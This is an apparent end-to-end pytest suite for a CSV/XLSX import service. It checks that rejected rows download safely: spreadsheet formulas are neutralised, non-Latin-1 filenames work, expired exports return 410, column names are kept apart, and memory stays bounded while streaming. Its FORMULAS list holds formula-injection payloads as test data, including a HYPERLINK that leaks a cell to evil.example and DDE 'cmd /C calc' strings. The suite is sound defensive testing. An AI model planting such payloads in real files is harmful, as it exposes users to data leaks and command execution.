"""The rows to fix (rows.csv) through the running stack: hostile cells, names and sizes."""

import asyncio
import csv
import io
import threading
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import unquote

import httpx
import psutil
import pytest
import xlsxwriter

from hotmart_common.blobstore import upload_key
from hotmart_stack.servers import s3_client
from hotmart_stack.stack import EmbeddedStack
from tests.support.api import wait_finished

pytestmark = pytest.mark.e2e

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"clique")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
BIG_ROWS = 200_000
# The upload service's RSS may grow by this much while it answers the big file's downloads,
# two at once. Reading all 200 000 issues, the table and the whole answer grew it by hundreds
# of MB; streamed, a download holds the export's bytes and one page of rows.
BIG_DOWNLOAD_RSS_GROWTH_MB = 80


def csv_file(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def imported(api: httpx.Client, name: str, data: bytes, timeout_s: float = 120.0) -> str:
    created = api.post("/v1/imports", files={"file": (name, data)})
    assert created.status_code == 201, created.text
    import_id: str = created.json()["id"]
    confirmed = api.post(f"/v1/imports/{import_id}/confirm")
    assert confirmed.status_code == 202, confirmed.text
    assert wait_finished(api, import_id, timeout_s)["status"] == "completed"
    return import_id


def rows_of(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def test_formula_cells_come_back_neutralised(api: httpx.Client) -> None:
    tag = uuid.uuid4().hex[:8]
    rows = [["Nome", "Email", "@Obs"], [f"ok {tag}", f"ok.{tag}@example.com", "fine"]]
    rows += [[formula, "", f"=row {n}"] for n, formula in enumerate(FORMULAS)]
    import_id = imported(api, "formulas.csv", csv_file(rows))

    header, *lines = rows_of(api.get(f"/v1/imports/{import_id}/rows.csv"))

    assert header == ["row_number", "problem", "message", "Nome", "Email", "'@Obs"]
    # The reader strips every cell ("\t=1+1" is read as "=1+1"), then the writer quotes it.
    assert [line[3] for line in lines] == ["'" + formula.strip() for formula in FORMULAS]
    assert [line[5] for line in lines] == [f"'=row {n}" for n in range(len(FORMULAS))]
    assert [line[:2] for line in lines] == [[str(n + 3), "missing_email"]
                                            for n in range(len(FORMULAS))]


def test_a_file_name_outside_latin_1_downloads_under_its_own_name(api: httpx.Client) -> None:
    tag = uuid.uuid4().hex[:8]
    import_id = imported(api, "продажи-日本.csv", csv_file(
        [["Nome", "Email"], ["Ana", f"ana.{tag}@example.com"], ["Bia", ""]]))

    response = api.get(f"/v1/imports/{import_id}/rows.csv")

    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="')
    assert unquote(disposition.split("filename*=UTF-8''", 1)[1]) == "продажи-日本-rows-to-fix.csv"
    _, line = rows_of(response)
    assert (line[0], line[1], line[3]) == ("3", "missing_email", "Bia")


def test_an_export_no_longer_kept_answers_410_and_its_reasons_stay(
        api: httpx.Client, stack: EmbeddedStack) -> None:
    tag = uuid.uuid4().hex[:8]
    import_id = imported(api, "expired.csv", csv_file(
        [["Nome", "Email"], [f"ok {tag}", f"ok.{tag}@example.com"], ["no e-mail", ""]]))
    s3_client(stack.s3_endpoint).delete_object(
        Bucket=stack.s3_bucket, Key=upload_key("default", import_id, "expired.csv"))

    gone = api.get(f"/v1/imports/{import_id}/rows.csv")

    assert gone.status_code == 410, gone.text
    assert "no longer kept" in gone.json()["detail"]
    assert api.get(f"/v1/imports/{import_id}/rows").json()["items"][0]["row_number"] == 3


def test_columns_named_like_the_added_ones_are_kept_apart(api: httpx.Client) -> None:
    tag = uuid.uuid4().hex[:8]
    import_id = imported(api, "clash.csv", csv_file([
        ["Email", "problem", "row_number", "message", "__row_number"],
        [f"ana.{tag}@example.com", "p", "1", "m", "r"],
        ["", "their problem", "41", "their message", "their row"],
    ]))

    header, line = rows_of(api.get(f"/v1/imports/{import_id}/rows.csv"))

    assert header == ["row_number", "problem", "message", "Email", "problem (2)",
                      "row_number (2)", "message (2)", "__row_number (2)"]
    assert line[:2] == ["3", "missing_email"]
    assert line[3:] == ["", "their problem", "41", "their message", "their row"]


def test_a_workbook_s_rows_come_from_its_stored_table(api: httpx.Client) -> None:
    tag = uuid.uuid4().hex[:8]
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet("Vendas")
    for n, row in enumerate([["Nome", "Email", "problem"], ["Ana", f"ana.{tag}@example.com", "x"],
                             [FORMULAS[1], "", "=1+1"]]):
        for column, text in enumerate(row):
            sheet.write_string(n, column, text)
    book.close()
    import_id = imported(api, "vendas.xlsx", buffer.getvalue())

    header, line = rows_of(api.get(f"/v1/imports/{import_id}/rows.csv"))

    assert header == ["row_number", "problem", "message", "Nome", "Email", "problem (2)"]
    assert line[:2] + line[3:] == ["3", "missing_email", "'" + FORMULAS[1], "", "'=1+1"]


@contextmanager
def peak_rss_growth_mb(pid: int) -> Iterator[list[float]]:
    """Samples the process's RSS every 10 ms; yields a list that holds the peak growth
    (MB over the RSS at the start) once the block is done."""
    process = psutil.Process(pid)
    start = process.memory_info().rss
    peak = [start]
    stop = threading.Event()

    def sample() -> None:
        while not stop.is_set():
            peak[0] = max(peak[0], process.memory_info().rss)
            time.sleep(0.01)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    growth: list[float] = []
    try:
        yield growth
    finally:
        stop.set()
        sampler.join()
        growth.append((max(peak[0], process.memory_info().rss) - start) / 2**20)


async def test_many_rejected_rows_stream_in_pages_with_bounded_memory(
        production_api: httpx.Client, production_stack: EmbeddedStack) -> None:
    # 200 000 rows without an e-mail, a 2 MB file: every row comes back to be fixed.
    api, stack = production_api, production_stack
    data = ("Nome;Email\r\n" + "".join(f"=n{n};\r\n" for n in range(BIG_ROWS))).encode()
    import_id = await asyncio.to_thread(imported, api, "many.csv", data, 600.0)
    url = f"/v1/imports/{import_id}/rows.csv"
    first = await asyncio.to_thread(api.get, url)  # warms the route up
    assert first.status_code == 200

    with peak_rss_growth_mb(stack.pids["upload"]) as growth:
        whole, second = await asyncio.gather(
            asyncio.to_thread(api.get, url),
            asyncio.to_thread(api.get, url, params={"after_row": 100_001}))

    assert growth[0] < BIG_DOWNLOAD_RSS_GROWTH_MB, f"upload grew {growth[0]:.0f} MB"
    assert whole.headers["link"].endswith('after_row=100001>; rel="next"')
    assert "link" not in second.headers
    first_page, second_page = rows_of(whole)[1:], rows_of(second)[1:]
    assert (len(first_page), len(second_page)) == (100_000, 100_000)
    assert [line[0] for line in first_page[:2] + second_page[-1:]] == ["2", "3", "200001"]
    assert first_page[0][3:] == ["'=n0", ""] and second_page[-1][3] == f"'=n{BIG_ROWS - 1}"
